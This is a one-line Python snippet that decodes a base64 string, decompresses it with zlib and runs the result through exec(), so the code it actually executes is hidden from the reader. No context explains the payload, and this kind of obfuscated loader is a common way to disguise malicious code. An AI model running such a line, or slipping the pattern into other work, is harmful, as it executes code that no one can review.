exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJzLzC3ILypRKM5Pzk4tsYbSeslFqYklqfHJ+Xl5qcklmfl5GhpKhkbmegZAaKiko2CpqckFAHQtEoQ=')))
